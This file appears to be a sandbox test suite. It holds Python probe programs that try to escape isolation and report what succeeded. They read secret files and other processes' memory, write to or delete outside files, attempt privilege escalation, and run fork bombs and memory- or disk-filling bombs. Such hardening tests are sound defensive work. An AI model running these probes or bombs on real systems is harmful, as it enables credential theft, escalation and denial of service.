"""Programs that mean harm, on the standard library alone. Each ends by printing, as JSON, what it could do and must not have."""

from __future__ import annotations

# What every one of them begins with. ``facts`` tells where the canaries are.
PRELUDE = r"""
import ctypes, errno, json, os, signal, socket, subprocess, sys, threading, time
facts = json.loads(sys.argv[1])
could = []
canary = facts["canary"].encode()
libc = ctypes.CDLL(None, use_errno=True)

def attempt(name, action):
    try:
        if action() is not False:
            could.append(name)
    except BaseException:
        pass

def call(name, *values):
    number = CALLS[name][os.uname().machine]
    words = [ctypes.c_long(value) if isinstance(value, int) else value for value in values]
    return libc.syscall(ctypes.c_long(number), *words) >= 0

CALLS = {
    "io_uring_setup": {"x86_64": 425, "aarch64": 425},
    "process_vm_readv": {"x86_64": 310, "aarch64": 270},
    "pidfd_open": {"x86_64": 434, "aarch64": 434},
    "pidfd_getfd": {"x86_64": 438, "aarch64": 438},
    "pidfd_send_signal": {"x86_64": 424, "aarch64": 424},
    "keyctl": {"x86_64": 250, "aarch64": 219},
    "bpf": {"x86_64": 321, "aarch64": 280},
    "unshare": {"x86_64": 272, "aarch64": 97},
    "userfaultfd": {"x86_64": 323, "aarch64": 282},
    "perf_event_open": {"x86_64": 298, "aarch64": 241},
    "open_by_handle_at": {"x86_64": 304, "aarch64": 265},
    "memfd_create": {"x86_64": 319, "aarch64": 279},
}

def holds(path):
    with open(path, "rb") as stream:
        return canary in stream.read(1 << 20)

def write(path):
    with open(path, "ab") as stream:
        stream.write(b"x")
"""

HOLDS = {
    "secrets": r"""
outside = facts["outside"]
attempt("file", lambda: holds(outside))
attempt("folder", lambda: os.listdir(os.path.dirname(outside)))
attempt("by a link", lambda: (os.symlink(outside, "link"), holds("link"))[1])
attempt("by a folder's link", lambda: (os.symlink("/", "root"), holds("root" + outside))[1])
for name in ("/root", "/home", "/etc/ssh", "/var/log", "/run", "/srv", "/opt", "/mnt", "/sys/class/net"):
    # The way to a mounted interpreter may lead through; nothing else may be there.
    attempt(name, lambda: bool(set(os.listdir(name)) - set(sys.base_prefix.split("/"))))
attempt("ports", lambda: b":%04X " % facts["port"] in open("/proc/net/tcp", "rb").read())
for name in ("/etc/shadow", "/etc/passwd", "/etc/hosts", "/etc/resolv.conf", "/proc/kallsyms", "/proc/keys", "/proc/kcore", "/dev/mem"):
    attempt(name, lambda: bool(open(name, "rb").read(100).strip()))
attempt("environment", lambda: canary in json.dumps(dict(os.environ)).encode())
for name in os.listdir("/proc") if facts["lists"] else [str(facts["victim"]), str(facts["parent"]), str(os.getppid()), "1", "self"]:
    if name.isdigit():
        attempt("environment of another", lambda: holds("/proc/%s/environ" % name))
        attempt("memory map of another", lambda: int(name) != os.getpid() and bool(open("/proc/%s/maps" % name).read()))
        if int(name) != os.getpid():
            attempt("command line of another", lambda: holds("/proc/%s/cmdline" % name))
            attempt("folder of another", lambda: holds("/proc/%s/root%s" % (name, outside)))
            attempt("descriptors of another", lambda: bool(os.listdir("/proc/%s/fd" % name)))
attempt("inherited descriptors", lambda: [n for n in range(3, 256) if os.path.exists("/proc/self/fd/%d" % n)] != [])
""",
    "network": r"""
def connect(family, kind, address, protocol=0):
    with socket.socket(family, kind, protocol) as caller:
        caller.settimeout(1)
        caller.connect(address)
        caller.send(canary)

attempt("tcp", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", facts["port"])))
attempt("tcp 6", lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ("::1", facts["port"])))
attempt("tcp mapped", lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", facts["port"])))
try:
    connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", facts["udp"]))  # a datagram that nobody gets; the test counts what arrives
except OSError:
    pass
attempt("elsewhere", lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)))
attempt("dns", lambda: bool(socket.getaddrinfo("example.org", 443)))
attempt("abstract", lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + facts["abstract"]))
attempt("file", lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, facts["socket"]))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).close())
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW).close())
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close())
attempt("alg", lambda: socket.socket(38, socket.SOCK_SEQPACKET).close())
attempt("bluetooth", lambda: socket.socket(31, socket.SOCK_RAW, 1).close())
attempt("ring", lambda: call("io_uring_setup", 4, ctypes.create_string_buffer(256)))
""",
    "writes": r"""
outside, folder, beside, fixed = facts["outside"], facts["folder"], facts["beside"], facts["fixed"]
attempt("file", lambda: write(outside))
attempt("new file", lambda: write(beside))
attempt("cut", lambda: os.truncate(outside, 0))
attempt("mode", lambda: os.chmod(outside, 0o777))
attempt("mode of a folder", lambda: os.chmod(folder, 0o777))
attempt("mode by a link", lambda: (os.symlink(outside, "to-outside"), os.chmod("to-outside", 0o777)))
attempt("mode by /proc", lambda: os.chmod("/proc/self/cwd/" + os.path.relpath(outside), 0o777))
attempt("times", lambda: os.utime(outside, (1, 1)))
attempt("times of a link", lambda: os.utime(facts["link"], (1, 1), follow_symlinks=False))
attempt("owner", lambda: os.chown(outside, os.getuid(), os.getgid()))
attempt("attribute", lambda: os.setxattr(outside, "user.hardtack", b"x"))
attempt("removal", lambda: os.unlink(outside))
attempt("link", lambda: os.link(outside, "linked"))
attempt("link outwards", lambda: (write("inner"), os.link("inner", beside)))
attempt("theft", lambda: os.rename(outside, "stolen"))
attempt("gift", lambda: (write("gift"), os.rename("gift", beside)))
attempt("folder", lambda: os.mkdir(beside))
attempt("symlink", lambda: os.symlink("/", beside))
attempt("fifo", lambda: os.mkfifo(beside))
attempt("working folder of another", lambda: write("/proc/%d/cwd/mark" % facts["victim"]))
attempt("fixed file", lambda: write(fixed))
attempt("fixed file's mode", lambda: os.chmod(fixed, 0o777))
attempt("fixed file's mode by descriptor", lambda: os.fchmod(os.open(fixed, os.O_RDONLY), 0o777))
attempt("fixed file's times", lambda: os.utime(os.open(fixed, os.O_RDONLY), (1, 1)))
for name in ("/usr/hardtack-mark", "/etc/hardtack-mark", "/hardtack-mark", "/bin/hardtack-mark", "/var/tmp/hardtack-mark"):
    attempt(name, lambda: (write(name), os.unlink(name)))
for name in ("hostname", "core_pattern", "modprobe"):
    attempt("/proc/sys/kernel/" + name, lambda: os.close(os.open("/proc/sys/kernel/" + name, os.O_WRONLY)))
attempt("/proc/sysrq-trigger", lambda: os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY)))
# What the keeper does on a build's behalf must work, and be told apart from what it must not do.
write("mine")
os.symlink("mine", "mine-too")
os.mkdir("deep")
for action in (
    lambda: os.chmod("mine", 0o751),
    lambda: os.chmod("mine-too", 0o640),
    lambda: os.utime("mine", ns=(1_000_000_001, 2_000_000_002)),
    lambda: os.utime("mine-too", (5, 5), follow_symlinks=False),
    lambda: os.chmod("mine", 0o700, dir_fd=os.open("deep/..", os.O_RDONLY)),
    lambda: os.fchmod(os.open("mine", os.O_RDONLY), 0o711),
):
    try:
        action()
    except OSError as error:
        could.append("NOT change what is its own: %s" % error)
state = os.stat("mine")
if (state.st_mode & 0o777, state.st_mtime_ns) != (0o711, 2_000_000_002) or os.lstat("mine-too").st_mtime != 5:
    could.append("NOT change what is its own")
# What it leaves must not mislead whoever tidies up.
os.symlink(outside, "left")
os.symlink(folder, "left-folder")
""",
    "processes": r"""
victim = facts["victim"]
for number in (0, signal.SIGUSR1, signal.SIGKILL):
    # Inside a namespace of its own the number may be another's: what happened to the victim is what counts.
    try:
        os.kill(victim, number)
    except OSError:
        pass
descriptor = libc.syscall(ctypes.c_long(434), ctypes.c_long(victim), ctypes.c_long(0))
if descriptor >= 0:
    attempt("its descriptors", lambda: call("pidfd_getfd", descriptor, 0, 0))
    libc.syscall(ctypes.c_long(424), ctypes.c_long(descriptor), ctypes.c_long(9), None, ctypes.c_long(0))
attempt("ptrace", lambda: libc.ptrace(0x4206, victim, None, None) == 0)
attempt("ptrace the parent", lambda: os.getppid() > 0 and libc.ptrace(0x4206, os.getppid(), None, None) == 0)
buffer = ctypes.create_string_buffer(64)
attempt("its memory", lambda: call("process_vm_readv", victim, buffer, 1, buffer, 1, 0))
if not facts["lists"]:
    attempt("its priority", lambda: os.setpriority(os.PRIO_PROCESS, victim, 19))
    def limit():
        import resource
        resource.prlimit(victim, resource.RLIMIT_CORE, (0, 0))
    attempt("its limits", limit)
    attempt("shared memory", lambda: libc.shmget(0x68617264, 4096, 0o1666) >= 0)
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
""",
    "privileges": r"""
attempt("user namespace", lambda: call("unshare", 0x10000000))
attempt("network namespace", lambda: call("unshare", 0x40000000))
attempt("unshare program", lambda: subprocess.call(["/usr/bin/unshare", "-U", "true"], stderr=subprocess.DEVNULL) == 0)
attempt("clone", lambda: libc.clone(0, 0, 0x10000000 | 17, 0) > 0)
attempt("mount", lambda: libc.mount(b"none", b".", b"tmpfs", 0, None) == 0)
attempt("chroot", lambda: os.chroot("."))
attempt("keys", lambda: call("keyctl", 0, -3, 1))
attempt("bpf", lambda: call("bpf", 0, None, 0))
attempt("perf", lambda: call("perf_event_open", None, 0, -1, -1, 0))
attempt("faults", lambda: call("userfaultfd", 0))
attempt("files by handle", lambda: call("open_by_handle_at", -100, ctypes.create_string_buffer(64), 0))
attempt("memory that is not counted", lambda: call("memfd_create", b"x", 0))
attempt("root", lambda: os.setuid(0) if os.getuid() else False)
attempt("device", lambda: os.mknod("device", 0o20666, os.makedev(1, 1)))
write("owner")
for mode in (0o4755, 0o6755):
    attempt("setuid file", lambda: os.chmod("owner", mode))
    attempt("setuid file by descriptor", lambda: os.fchmod(os.open("owner", os.O_RDONLY), mode))
    attempt("setuid from the start", lambda: os.close(os.open("born-%o" % mode, os.O_CREAT | os.O_WRONLY, mode)))
attempt("privileged program", lambda: b"uid=0" in subprocess.run(["/usr/bin/su", "-c", "id"], capture_output=True, input=b"").stdout)
with open("/proc/self/status") if facts["lists"] else open("/dev/null") as stream:
    status = dict(line.split(":", 1) for line in stream)
if status:
    attempt("capabilities", lambda: int(status["CapEff"], 16) != 0 or int(status["CapBnd"], 16) & ~(1 << 2) != 0)
    attempt("new privileges", lambda: status["NoNewPrivs"].strip() != "1")
    attempt("no filter", lambda: status["Seccomp"].strip() != "2")
""",
}

_DAEMON = r"""
def sleep_for_ever():
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    # Nothing of what was put into the environment stays.
    os.execve(sys.executable, [sys.executable, "-I", "-S", "-c", "import time\nwhile True: time.sleep(9)", facts["mark"]], {})
"""

# Each ends by itself or is ended: nothing of it may stay.
BOMBS = {
    "sleep": "time.sleep(60)",
    "spin": "while True: pass",
    "deaf": "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: time.sleep(1)",
    "memory": "kept = []\nwhile True: kept.append(bytearray(16 << 20))",
    "memory-of-many": (
        "for _ in range(6):\n    if os.fork() == 0:\n        kept = b'x' * (100 << 20)\n        time.sleep(60)\ntime.sleep(60)\n"
    ),
    "shared-memory": "import mmap\nkept = [mmap.mmap(-1, 64 << 20) for _ in range(3)]\n"
    "for _ in range(3):\n    os.fork()\nfor one in kept:\n    one.write(b'x' * len(one))\ntime.sleep(60)\n",
    "file": "with open('big', 'wb') as stream:\n    while True: stream.write(bytes(1 << 20))",
    "files": "number = 0\nwhile True:\n    number += 1\n    with open('big%d' % number, 'wb') as stream: stream.write(bytes(8 << 20))",
    "log": "while True: sys.stdout.write('x' * 65536)",
    "forks": "while True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)\n",
    "rabbits": "while True:\n    try:\n        if os.fork(): os._exit(0)\n    except OSError:\n        pass\n",
    "threads": (
        "def start():\n    while True:\n        try: threading.Thread(target=time.sleep, args=(60,)).start()\n"
        "        except RuntimeError: time.sleep(0.05)\nstart()\n"
    ),
    "descriptors": "kept = []\nwhile True: kept.append(os.open('/dev/null', os.O_RDONLY))",
}
DAEMONS = {
    "daemon": _DAEMON + "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: sleep_for_ever()\n    os._exit(0)\nos.wait()\n",
    "daemons": _DAEMON
    + "for _ in range(10):\n    if os.fork() == 0:\n        os.setsid()\n"
    + "        for _ in range(3):\n            if os.fork() == 0: sleep_for_ever()\n        os._exit(0)\nos.wait()\n",
    "daemon-holding-the-log": (
        "program = [sys.executable, '-c', 'import time; time.sleep(60)', facts['mark']]\n"
        "subprocess.Popen(program, start_new_session=True)\n"
    ),
}
# Those that only the clock ends, where another limit keeps them down.
TIMED = frozenset({"sleep", "spin", "deaf", "forks", "threads"})
